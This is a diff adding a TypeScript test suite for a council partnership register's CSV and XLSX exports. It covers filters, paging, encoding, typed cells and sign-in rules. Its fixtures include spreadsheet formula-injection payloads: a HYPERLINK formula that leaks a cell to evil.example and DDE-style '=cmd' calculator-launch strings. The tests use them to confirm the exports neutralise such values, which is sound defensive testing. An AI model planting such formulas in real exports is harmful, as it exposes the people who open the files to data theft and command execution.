@@ -1,0 +1,351 @@
+// R-2.6.11: the register exported as CSV and XLSX, read back with csv-parse and exceljs and compared
+// with the register list's own rows: every page, the filters and search honoured, formulas neutralised
+// in the CSV, typed cells in the workbook.
+import assert from 'node:assert/strict';
+import { after, before, it } from 'node:test';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
+import { SYSTEM } from '../../src/app/deps.ts';
+import { createOrganisation } from '../../src/app/organisations.service.ts';
+import { createPartnership } from '../../src/app/partnerships.service.ts';
+import { createPerson } from '../../src/app/people.service.ts';
+import { registerCsv, registerXlsx } from '../../src/app/register-export.ts';
+import { searchRegister, type RegisterRow } from '../../src/db/repositories/register.repo.ts';
+import type { PartnershipDetails } from '../../src/domain/register/partnership.ts';
+import type { OrganisationDetails } from '../../src/domain/register/records.ts';
+import { parseRegisterQuery, type RegisterQuery } from '../../src/domain/register/register-query.ts';
+import { LEGAL_FORMS, LEGAL_FORM_LABELS, STATUSES, STATUS_LABELS } from '../../src/domain/register/vocabulary.ts';
+import { Client } from '../helpers/app.ts';
+import { startApp, type TestApp } from '../helpers/app.ts';
+import { TestClock } from '../helpers/clock.ts';
+import { forEachDatabase } from '../helpers/databases.ts';
+import { makeUser, signedIn } from '../helpers/factories.ts';
+
+// 23:30 UTC on 31 March 2026 is already 1 April in London (BST): the file is named for the UK day.
+const NOW = '2026-03-31T23:30:00.000Z';
+const UK_DAY = '2026-04-01';
+
+const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', '+44 1632 960000 helpline', '-5', '@SUM(A1:A9)'];
+
+function org(name: string, extra: Partial<OrganisationDetails> = {}): OrganisationDetails {
+  return {
+    name,
+    sector: 'public',
+    isThisCouncil: false,
+    companyNumber: null,
+    charityNumber: null,
+    address: null,
+    website: null,
+    contactName: null,
+    contactEmail: null,
+    contactPhone: null,
+    ...extra,
+  };
+}
+
+/** The register list's rows for a query, every page of them, as the list page would show them. */
+async function listRows(t: TestApp, params: Record<string, string | string[]>): Promise<RegisterRow[]> {
+  const { query } = parseRegisterQuery(params);
+  const out: RegisterRow[] = [];
+  for (let page = 1; ; page++) {
+    const { items, total } = await searchRegister(t.deps.database.db, { ...query, page });
+    out.push(...items);
+    if (out.length >= total || items.length === 0) return out;
+  }
+}
+
+// Written out here rather than taken from the code under test, so a wrong cell fails.
+const pounds = (pence: number | null) => (pence === null ? '' : (pence / 100).toFixed(2));
+const safe = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
+const partnersText = (r: RegisterRow) => r.partners.map((p) => (p.role === 'lead' ? `${p.name} (lead)` : p.name)).join('; ');
+const budget = (b: boolean | null) => (b === null ? '' : b ? 'Yes' : 'No');
+
+function expectedCsvRecord(r: RegisterRow): string[] {
+  return [
+    r.reference,
+    safe(r.name),
+    STATUS_LABELS[r.status],
+    LEGAL_FORM_LABELS[r.legalForm],
+    safe(r.purpose),
+    safe(partnersText(r)),
+    safe(r.sponsoringOfficerName ?? ''),
+    safe(r.accountableOfficerName ?? ''),
+    pounds(r.councilContributionPence),
+    budget(r.withinApprovedBudget),
+    r.startDate ?? '',
+    r.expectedEndDate ?? '',
+  ];
+}
+
+const HEADERS = [
+  'Reference',
+  'Name',
+  'Status',
+  'Legal form',
+  'Purpose',
+  'Partners',
+  'Sponsoring officer',
+  'Accountable officer',
+  'Council contribution per year (£)',
+  'Within approved budget',
+  'Start date',
+  'Expected end date',
+];
+
+interface Csv {
+  text: string;
+  records: string[][];
+}
+
+function readCsv(body: string): Csv {
+  assert.ok(body.startsWith('\uFEFF'), 'the CSV starts with a UTF-8 byte order mark');
+  const text = body.slice(1);
+  assert.ok(text.endsWith('\r\n'), 'the last record ends with CRLF');
+  // Parsing with CRLF as the only record delimiter: a bare LF between records would merge them.
+  const records = parse(text, { record_delimiter: '\r\n', relax_column_count: false }) as string[][];
+  return { text, records };
+}
+
+async function readXlsx(payload: Buffer): Promise<ExcelJS.Worksheet> {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(payload as unknown as ArrayBuffer);
+  const sheet = workbook.getWorksheet('Partnership register');
+  assert.ok(sheet, 'the workbook has a "Partnership register" sheet');
+  return sheet;
+}
+
+forEachDatabase('register exports', (ctx) => {
+  let t: TestApp;
+  let auditor: Client;
+  let officerId: string;
+  const clock = new TestClock(NOW);
+
+  before(async () => {
+    t = await startApp(ctx.database, { clock });
+    const council = await createOrganisation(t.deps, SYSTEM, org('Test Borough Council', { isThisCouncil: true }));
+    const police = await createOrganisation(t.deps, SYSTEM, org('Wealdshire Police'));
+    const risky = await createOrganisation(t.deps, SYSTEM, org('@Risky Partners Ltd', { sector: 'private' }));
+    const cvs = await createOrganisation(t.deps, SYSTEM, org('Brackenford CVS, Ltd "the CVS"', { sector: 'vcse' }));
+    const officer = await createPerson(t.deps, SYSTEM, { name: 'Jo Officer', jobTitle: 'Head of Partnerships', organisationId: council.id, email: null, councilRole: 'officer', userId: null });
+    const dash = await createPerson(t.deps, SYSTEM, { name: '-Sam Dash', jobTitle: null, organisationId: council.id, email: null, councilRole: 'officer', userId: null });
+    officerId = officer.id;
+
+    const base = (i: number): PartnershipDetails => ({
+      name: `Partnership ${String(i).padStart(2, '0')}`,
+      purpose: `Purpose of partnership ${i}`,
+      expectedOutcomes: 'Better outcomes',
+      rationale: ['cross-cutting-issues'],
+      wellbeing: ['social'],
+      legalForm: LEGAL_FORMS[i % LEGAL_FORMS.length]!,
+      status: STATUSES[i % 6]!,
+      startDate: i % 4 === 0 ? null : `20${String(10 + (i % 15)).padStart(2, '0')}-0${1 + (i % 9)}-1${i % 10}`,
+      expectedEndDate: i % 3 === 0 ? `2035-12-31` : null,
+      durationDescription: null,
+      councilContributionPence: i % 5 === 0 ? null : i * 1_234_567 + (i % 2 ? 50 : 0),
+      withinApprovedBudget: i % 5 === 0 ? null : i % 2 === 0,
+      resourcesStaff: null,
+      resourcesAssets: null,
+      resourcesInKind: null,
+      sponsoringOfficerId: i % 2 ? officer.id : null,
+      accountableOfficerId: i % 3 ? dash.id : null,
+      partners:
+        i % 2
+          ? [
+              { organisationId: council.id, role: 'lead', memberStatus: 'voting' },
+              { organisationId: police.id, role: 'member', memberStatus: 'voting' },
+            ]
+          : [
+              { organisationId: risky.id, role: 'lead', memberStatus: 'voting' },
+              { organisationId: cvs.id, role: 'associate', memberStatus: 'observer' },
+              { organisationId: council.id, role: 'member', memberStatus: 'voting' },
+            ],
+      representatives: [],
+      priorities: [],
+    });
+    // 30 ordinary partnerships: more than one page of the list (25 a page).
+    for (let i = 1; i <= 30; i++) await createPartnership(t.deps, SYSTEM, base(i));
+    // Formula-shaped names, and text with commas, quotes, line breaks and non-ASCII characters.
+    for (const [i, name] of HOSTILE.entries()) {
+      await createPartnership(t.deps, SYSTEM, {
+        ...base(31 + i),
+        name,
+        purpose: i === 0 ? 'Line one, with a comma\nLine two with "quotes" – and £ signs, café' : `=cmd|' /C calc'!A${i}`,
+        status: 'operating',
+      });
+    }
+    auditor = await signedIn(t.app, await makeUser(t.deps, 'auditor'));
+  });
+  after(() => t.close());
+
+  it('R-2.6.11 the CSV is every partnership in the list order, all pages, with a BOM, CRLF and a dated filename', async () => {
+    const res = await auditor.get('/partnerships/export.csv');
+    assert.equal(res.statusCode, 200);
+    assert.match(String(res.headers['content-type']), /^text\/csv; charset=utf-8/);
+    assert.equal(res.headers['content-disposition'], `attachment; filename="partnership-register-${UK_DAY}.csv"`);
+    assert.equal(res.rawPayload.subarray(0, 3).toString('hex'), 'efbbbf', 'UTF-8 byte order mark');
+    const { records } = readCsv(res.body);
+    const rows = await listRows(t, {});
+    assert.equal(rows.length, 34);
+    assert.deepEqual(records[0], HEADERS);
+    assert.deepEqual(records.slice(1), rows.map(expectedCsvRecord));
+  });
+
+  it('R-2.6.11 formula-shaped cells are neutralised in the CSV, and other text survives intact', async () => {
+    const res = await auditor.get('/partnerships/export.csv?q=helpline');
+    const { records } = readCsv(res.body);
+    assert.equal(records.length, 2);
+    assert.equal(records[1]![1], "'+44 1632 960000 helpline");
+
+    const all = readCsv((await auditor.get('/partnerships/export.csv')).body).records;
+    const names = all.map((r) => r[1]);
+    for (const name of HOSTILE) {
+      assert.ok(names.includes(`'${name}`), `${name} exported with a leading quote`);
+      assert.ok(!names.includes(name), `${name} never exported as it was typed`);
+    }
+    const hyperlink = all.find((r) => r[1] === `'${HOSTILE[0]}`)!;
+    assert.equal(hyperlink[4], 'Line one, with a comma\nLine two with "quotes" – and £ signs, café');
+    assert.equal(all.find((r) => r[1] === "'-5")![4], `'=cmd|' /C calc'!A2`);
+    // Partners and officers whose names start a formula are neutralised too.
+    assert.ok(all.some((r) => r[5]!.startsWith("'@Risky Partners Ltd (lead); Brackenford CVS, Ltd \"the CVS\"; Test Borough Council")));
+    assert.ok(all.some((r) => r[7] === "'-Sam Dash"));
+    for (const record of all) for (const cell of record) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)}`);
+  });
+
+  it('R-2.6.11 the CSV honours the search, filters and sort of the list, and ignores paging', async () => {
+    const cases: Array<Record<string, string | string[]>> = [
+      { status: ['operating', 'proposed'], sort: 'reference', order: 'desc' },
+      { legalForm: 'latco', sort: 'contribution' },
+      { q: 'partnership', minContribution: '10000', sort: 'start', order: 'desc' },
+      { sector: 'private', sort: 'status' },
+      { q: 'partnership', page: '2', pageSize: '5' },
+      { q: 'no such partnership anywhere' },
+    ];
+    cases.push({ sponsor: officerId, sort: 'name', order: 'desc' });
+    const counts: number[] = [];
+    for (const params of cases) {
+      const search = new URLSearchParams();
+      for (const [k, v] of Object.entries(params)) for (const x of Array.isArray(v) ? v : [v]) search.append(k, x);
+      const { records } = readCsv((await auditor.get(`/partnerships/export.csv?${search}`)).body);
+      const { page: _page, pageSize: _size, ...unpaged } = params;
+      const rows = await listRows(t, unpaged);
+      counts.push(rows.length);
+      assert.deepEqual(records.slice(1), rows.map(expectedCsvRecord), search.toString());
+    }
+    // Each case is a real filter: it keeps some rows and drops others (the empty search aside).
+    assert.deepEqual(counts.map((n) => n > 0 && n < 34), [true, true, true, true, true, false, true]);
+    assert.equal(counts[5], 0);
+    const paged = readCsv((await auditor.get('/partnerships/export.csv?q=partnership&page=2&pageSize=5')).body).records;
+    assert.equal(paged.length - 1, 30, 'every matching row, not the page asked for');
+    const none = readCsv((await auditor.get('/partnerships/export.csv?q=no+such+partnership+anywhere')).body).records;
+    assert.deepEqual(none, [HEADERS], 'nothing matching: the header row alone');
+  });
+
+  it('R-2.6.11 reading in small batches gives exactly the same CSV and workbook rows', async () => {
+    const { query } = parseRegisterQuery({ sort: 'reference' });
+    const text = async (q: RegisterQuery, batch?: number) => {
+      let s = '';
+      for await (const chunk of await registerCsv(t.deps.database.db, q, batch)) s += String(chunk);
+      return s;
+    };
+    const whole = await text(query);
+    assert.equal(await text(query, 7), whole);
+    assert.equal(await text(query, 34), whole);
+    assert.equal(readCsv(whole).records.length, 35);
+    const sheet = await readXlsx(await registerXlsx(t.deps.database.db, query, clock.now(), 7));
+    assert.equal(sheet.actualRowCount, 35);
+  });
+
+  it('R-2.6.11 the XLSX has the same rows, with typed cells: money numeric in pounds, dates as dates', async () => {
+    const res = await auditor.get('/partnerships/export.xlsx?sort=contribution&order=desc');
+    assert.equal(res.statusCode, 200);
+    assert.equal(res.headers['content-type'], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    assert.equal(res.headers['content-disposition'], `attachment; filename="partnership-register-${UK_DAY}.xlsx"`);
+    const sheet = await readXlsx(res.rawPayload);
+    const rows = await listRows(t, { sort: 'contribution', order: 'desc' });
+    assert.equal(sheet.actualRowCount, rows.length + 1);
+
+    const header = sheet.getRow(1);
+    assert.deepEqual((header.values as unknown[]).slice(1), HEADERS);
+    for (let c = 1; c <= HEADERS.length; c++) assert.equal(header.getCell(c).font?.bold, true, `header ${c} is bold`);
+    assert.equal(sheet.views[0]?.state, 'frozen');
+    assert.equal((sheet.views[0] as { ySplit?: number }).ySplit, 1, 'the header row is frozen');
+    assert.ok(sheet.autoFilter, 'the sheet has an autofilter');
+    assert.match(JSON.stringify(sheet.autoFilter), /A1/);
+    assert.ok((sheet.getColumn(2).width ?? 0) >= 30, 'the name column is set wide');
+
+    rows.forEach((r, i) => {
+      const row = sheet.getRow(i + 2);
+      const where = `row ${i + 2} (${r.reference})`;
+      assert.equal(row.getCell(1).value, r.reference, where);
+      // Text is stored as text, exactly as typed: a string cell is never evaluated by a spreadsheet.
+      assert.equal(row.getCell(2).type, ExcelJS.ValueType.String, where);
+      assert.equal(row.getCell(2).value, r.name, where);
+      assert.equal(row.getCell(2).formula, undefined, where);
+      assert.equal(row.getCell(3).value, STATUS_LABELS[r.status], where);
+      assert.equal(row.getCell(4).value, LEGAL_FORM_LABELS[r.legalForm], where);
+      assert.equal(row.getCell(5).value, r.purpose, where);
+      assert.equal(row.getCell(6).value, partnersText(r), where);
+      assert.equal(row.getCell(7).value ?? null, r.sponsoringOfficerName || null, where);
+      assert.equal(row.getCell(8).value ?? null, r.accountableOfficerName || null, where);
+
+      const money = row.getCell(9);
+      if (r.councilContributionPence === null) assert.equal(money.value ?? null, null, where);
+      else {
+        assert.equal(money.type, ExcelJS.ValueType.Number, where);
+        assert.equal(money.value, r.councilContributionPence / 100, where);
+        assert.equal(money.numFmt, '"£"#,##0.00', where);
+      }
+      assert.equal(row.getCell(10).value ?? '', budget(r.withinApprovedBudget), where);
+      for (const [col, date] of [
+        [11, r.startDate],
+        [12, r.expectedEndDate],
+      ] as const) {
+        const cell = row.getCell(col);
+        if (date === null) assert.equal(cell.value ?? null, null, where);
+        else {
+          assert.equal(cell.type, ExcelJS.ValueType.Date, where);
+          assert.ok(cell.value instanceof Date, where);
+          assert.equal((cell.value as Date).toISOString(), `${date}T00:00:00.000Z`, where);
+          assert.equal(cell.numFmt, 'dd/mm/yyyy', where);
+        }
+      }
+    });
+  });
+
+  it('R-2.6.11 the XLSX honours the filters too', async () => {
+    const sheet = await readXlsx((await auditor.get('/partnerships/export.xlsx?status=operating&q=partnership')).rawPayload);
+    const rows = await listRows(t, { status: 'operating', q: 'partnership' });
+    assert.ok(rows.length > 0 && rows.length < 34);
+    assert.deepEqual(
+      sheet.getRows(2, sheet.actualRowCount - 1)!.map((r) => r.getCell(1).value),
+      rows.map((r) => r.reference),
+    );
+  });
+
+  it('exports are static paths that /partnerships/:id never captures; other extensions are not found', async () => {
+    assert.equal((await auditor.get('/partnerships/export.csv')).statusCode, 200);
+    assert.equal((await auditor.get('/partnerships/export.xlsx')).statusCode, 200);
+    assert.equal((await auditor.get('/partnerships/export.json')).statusCode, 404);
+  });
+
+  it('R-2.6.11 every signed-in role can export; anyone else is sent to sign in', async () => {
+    for (const role of ['administrator', 'officer', 'auditor'] as const) {
+      const client = role === 'auditor' ? auditor : await signedIn(t.app, await makeUser(t.deps, role));
+      for (const ext of ['csv', 'xlsx']) assert.equal((await client.get(`/partnerships/export.${ext}`)).statusCode, 200, `${role} ${ext}`);
+    }
+    const anonymous = new Client(t.app);
+    for (const url of ['/partnerships/export.csv?status=operating', '/partnerships/export.xlsx']) {
+      const res = await anonymous.get(url);
+      assert.equal(res.statusCode, 303);
+      assert.equal(res.headers.location, `/sign-in?returnTo=${encodeURIComponent(url)}`);
+      assert.doesNotMatch(res.body, /Partnership 01/);
+    }
+  });
+
+  it('the list page links to both exports with its filters', async () => {
+    const page = await auditor.get('/partnerships?status=operating&q=partnership&page=2');
+    assert.equal(page.statusCode, 200);
+    assert.match(page.body, /href="\/partnerships\/export\.csv\?q=partnership&amp;status=operating"/);
+    assert.match(page.body, /href="\/partnerships\/export\.xlsx\?q=partnership&amp;status=operating"/);
+  });
+});
